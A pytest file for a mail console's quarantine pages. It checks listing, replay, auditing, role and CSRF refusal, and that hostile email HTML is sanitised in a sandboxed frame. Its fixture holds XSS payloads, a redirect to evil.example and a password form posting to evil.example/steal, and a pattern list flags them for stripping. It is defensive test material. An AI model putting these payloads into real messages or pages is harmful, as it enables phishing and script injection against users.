"""The console's quarantine pages: the list (filters, pages), one mail shown with its hostile
HTML sanitised in a sandboxed frame, replay as ``mailpipe quarantine replay`` does it, the
audit, the agent and a missing CSRF token refused. SQLite and PostgreSQL."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from html import unescape

import httpx
import pytest
from sqlalchemy import select
from starlette.testclient import TestClient

from libs.common.db import make_engine
from libs.common.db.quarantine import QuarantineBook
from libs.common.db.schema import console_audit, processed_log
from libs.common.mail import Mailbox
from libs.common.settings import MailboxConfig, MailpipeConfig
from services.ticketer.store import RecordStore
from services.web.app import build_app
from services.web.pages import quarantine as quarantine_pages
from services.web.quarantine import QuarantineDesk
from tests.mail_fake import FakeMailbox
from tests.web_rig import ADMIN_PASSWORD, AGENT_PASSWORD, Console, open_console, sign_in

BOX = "support@contoso.com"
FOLDER = "mailpipe-quarantine"
HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><title>t</title><style>body{display:none}</style>
<script>alert(1)</script></head><body>
<p>Please <a href="javascript:alert(2)">click</a> or <a href="https://example.org/ok">read</a>.</p>
<img src="https://tracker.example/pixel.gif" alt="pixel">
<img src="x" onerror="alert(3)" alt="broken">
<form action="https://evil.example/steal"><input name="password"></form>
<svg onload="alert(4)"></svg><iframe src="https://evil.example/"></iframe>
</body></html>"""
FORBIDDEN = (
    "<script",
    "alert(",
    "onerror",
    "onload",
    "javascript:",
    "tracker.example",
    "<meta",
    "<base",
    "<form",
    "<input",
    "<iframe",
    "<style",
    "evil.example",
)


def hostile_mail() -> bytes:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@example.net>"
    message["To"] = BOX
    message["Subject"] = "Invoice overdue"
    message["Message-ID"] = "<hostile-1@example.net>"
    message.set_content("Plain words of the hostile mail.")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    message.add_attachment(b"%PDF-1.4 0123456789", "application", "pdf", filename="invoice.pdf")
    return message.as_bytes()


@dataclass
class Rig:
    console: Console
    records: RecordStore
    mail: FakeMailbox
    desk: QuarantineDesk

    def client(self) -> TestClient:
        app = build_app(self.console.accounts, quarantine_desk=self.desk)
        return TestClient(app, base_url="https://console.test", follow_redirects=False)

    def quarantine(self, subject: str, reason: str = "bad_mime", mailbox: str = BOX) -> int:
        message_id = self.mail.seed(hostile_mail(), FOLDER)
        self.records.quarantine_email(
            mailbox,
            message_id,
            reason,
            detail=f"{reason} detail",
            attempts=3,
            provider="microsoft",
            folder="inbox",
            internet_message_id=None,
            subject=subject,
        )
        entry = self.records.list_quarantine()[-1]
        return entry.id


@pytest.fixture
def rig(database_url: str) -> Iterator[Rig]:
    mail = FakeMailbox(address=BOX)
    mail.folders[FOLDER] = {}
    config = MailpipeConfig(
        mailboxes=(MailboxConfig(address=BOX, tenant_id="t", client_id="c", client_secret="s"),)
    )

    def open_mail(config: MailpipeConfig, box: MailboxConfig) -> Mailbox:
        assert box.address == BOX
        return mail

    records = RecordStore.open(database_url)
    book = QuarantineBook(make_engine(database_url))
    try:
        for console in open_console(database_url):
            console.add_user("alice", "admin", ADMIN_PASSWORD)
            console.add_user("bob", "agent", AGENT_PASSWORD)
            yield Rig(console, records, mail, QuarantineDesk(book, lambda: config, open_mail))
    finally:
        book.close()
        records.close()


def admin(rig: Rig) -> TestClient:
    client = rig.client()
    assert sign_in(client, "alice", ADMIN_PASSWORD).status_code == 303
    return client


def token_of(page: httpx.Response) -> str:
    found = re.search(r'name="csrf_token" value="([^"]*)"', page.text)
    assert found is not None
    return found.group(1)


def test_the_list_is_newest_first_filtered_and_paged(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = rig.quarantine("First mail", reason="bad_mime")
    second = rig.quarantine("Second mail", reason="blob_missing")
    third = rig.quarantine("Third mail", reason="bad_mime", mailbox="help@contoso.com")
    client = admin(rig)
    page = client.get("/quarantine").text
    assert page.index("Third mail") < page.index("Second mail") < page.index("First mail")
    assert "blob_missing detail" in page and "3 quarantined mails" in page
    assert f'href="/quarantine/{first}"' in page and '<label for="reason">' in page
    by_reason = client.get("/quarantine", params={"reason": "bad_mime"}).text
    assert "First mail" in by_reason and "Third mail" in by_reason
    assert "Second mail" not in by_reason
    by_box = client.get("/quarantine", params={"mailbox": "HELP@contoso.com"}).text
    assert "Third mail" in by_box and "First mail" not in by_box
    monkeypatch.setattr(quarantine_pages, "PAGE_SIZE", 2)
    one = client.get("/quarantine").text
    assert "page 1 of 2" in one and "First mail" not in one and 'rel="next"' in one
    two = client.get("/quarantine", params={"page": "2"}).text
    assert "First mail" in two and "Third mail" not in two
    assert second and third


def srcdoc_of(page: str) -> str:
    found = re.search(r'<iframe class="mail-html"([^>]*)srcdoc="([^"]*)"', page)
    assert found is not None, "no mail frame on the page"
    return unescape(found.group(2))


def test_a_mail_is_shown_with_its_hostile_html_sanitised_in_a_sandbox(rig: Rig) -> None:
    entry = rig.quarantine("Invoice overdue")
    answer = admin(rig).get(f"/quarantine/{entry}")
    assert answer.status_code == 200
    page = answer.text
    assert "Mallory &lt;mallory@example.net&gt;" in page and "invoice.pdf" in page
    assert "Plain words of the hostile mail." in page and "bad_mime detail" in page
    frame = re.search(r"<iframe[^>]*>", page)
    assert frame is not None
    assert re.search(r"\ssandbox[\s>]", frame.group(0)) and "allow-" not in frame.group(0)
    html = srcdoc_of(page)
    assert 'href="https://example.org/ok"' in html and 'alt="pixel"' in html
    for bad in FORBIDDEN:
        assert bad not in html.lower(), bad
    outside = re.sub(r'srcdoc="[^"]*"', "", page).lower()
    for bad in ("alert(", "javascript:", "evil.example", "tracker.example", "<meta http-equiv"):
        assert bad not in outside, bad
    policy = answer.headers["content-security-policy"]
    assert "frame-src 'self'" in policy and "script-src 'self'" in policy
    assert "frame-ancestors 'none'" in policy


def test_replay_moves_the_mail_back_audits_and_confirms(rig: Rig) -> None:
    entry = rig.quarantine("Replay me")
    message_id = rig.records.list_quarantine()[-1].message_id
    client = admin(rig)
    token = token_of(client.get(f"/quarantine/{entry}"))
    answer = client.post(f"/quarantine/{entry}/replay", data={"csrf_token": token})
    assert answer.status_code == 303
    after = client.get(answer.headers["location"]).text
    assert f"Replayed entry {entry}" in after and "Replay me" not in after
    assert message_id in rig.mail.folders["inbox"] and not rig.mail.folders[FOLDER]
    assert rig.records.list_quarantine() == []
    with rig.records.engine.connect() as conn:
        assert conn.execute(select(processed_log)).all() == []
        audit = conn.execute(select(console_audit)).all()
    row = [a for a in audit if a.action == "quarantine replayed"]
    assert len(row) == 1 and row[0].actor == "alice"
    assert row[0].target == f"quarantine entry {entry}"
    assert client.get(f"/quarantine/{entry}").status_code == 404


def test_a_mail_gone_from_the_folder_is_said_and_nothing_is_lost(rig: Rig) -> None:
    entry = rig.quarantine("Moved by hand")
    rig.mail.move(rig.records.list_quarantine()[-1].message_id, "archive")
    client = admin(rig)
    page = client.get(f"/quarantine/{entry}")
    assert page.status_code == 200 and "The mail cannot be shown" in page.text
    answer = client.post(f"/quarantine/{entry}/replay", data={"csrf_token": token_of(page)})
    assert answer.status_code == 409
    assert "Not replayed" in answer.text and "moved by hand or already replayed" in answer.text
    assert [q.id for q in rig.records.list_quarantine()] == [entry]


def test_an_agent_and_a_missing_token_are_refused(rig: Rig) -> None:
    entry = rig.quarantine("Keep me")
    agent = rig.client()
    sign_in(agent, "bob", AGENT_PASSWORD)
    assert agent.get("/quarantine").status_code == 403
    assert agent.get(f"/quarantine/{entry}").status_code == 403
    token = token_of(agent.get("/"))
    assert agent.post(f"/quarantine/{entry}/replay", data={"csrf_token": token}).status_code == 403
    client = admin(rig)
    assert client.post(f"/quarantine/{entry}/replay", data={}).status_code == 403
    bad = client.post(f"/quarantine/{entry}/replay", data={"csrf_token": "forged"})
    assert bad.status_code == 403
    assert [q.id for q in rig.records.list_quarantine()] == [entry]
    assert rig.mail.folders[FOLDER]
    anonymous = rig.client().get("/quarantine")
    assert anonymous.status_code == 303 and "/login" in anonymous.headers["location"]
